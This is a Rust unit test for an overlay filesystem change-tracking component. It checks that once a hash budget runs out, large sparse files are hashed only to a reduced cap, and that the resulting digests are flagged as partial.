fn past_the_walk_hash_budget_files_are_hashed_to_the_spent_cap_and_say_so() {
    use crate::witness::SPENT_HASH_CAP;
    let layers = Layers::new();
    for name in ["a", "b", "c"] {
        let file = fs::File::create(layers.upper.join(name)).unwrap();
        file.set_len(1 << 30).unwrap();
    }
    // The lower copy of `c` differs from the upper one only past HASH_CAP: unchanged to
    // either cap, and reported modified only if its two sides were hashed to different caps.
    let lower = fs::File::create(layers.lower.join("c")).unwrap();
    lower.set_len(1 << 30).unwrap();
    std::os::unix::fs::FileExt::write_all_at(&lower, b"x", HASH_CAP + 1).unwrap();
    // A budget of one file's cap: the walk's first file is hashed to HASH_CAP, the others
    // to the spent cap.
    let report = OverlayWitness::new(&layers.upper, vec![layers.lower.clone()])
        .hash_budget(HASH_CAP)
        .collect()
        .unwrap();
    let mut digests = std::collections::BTreeMap::new();
    for change in &report.changes {
        match change {
            FsChange::Created {
                path,
                digest: Some(d),
                ..
            } => {
                digests.insert(path.display().to_string(), d.clone());
            }
            FsChange::Modified { path, new, .. } => {
                digests.insert(path.display().to_string(), new.clone());
            }
            _ => {}
        }
    }
    let hashed: Vec<Option<u64>> = digests.values().map(|d| d.hashed).collect();
    assert_eq!(
        digests.len(),
        2,
        "{digests:?}: c is unchanged to either cap"
    );
    assert!(
        hashed.iter().filter(|h| h.is_none()).count() <= 1,
        "{digests:?}"
    );
    assert!(hashed.contains(&Some(SPENT_HASH_CAP)), "{digests:?}");
    assert!(digests.values().all(|d| d.partial));
}
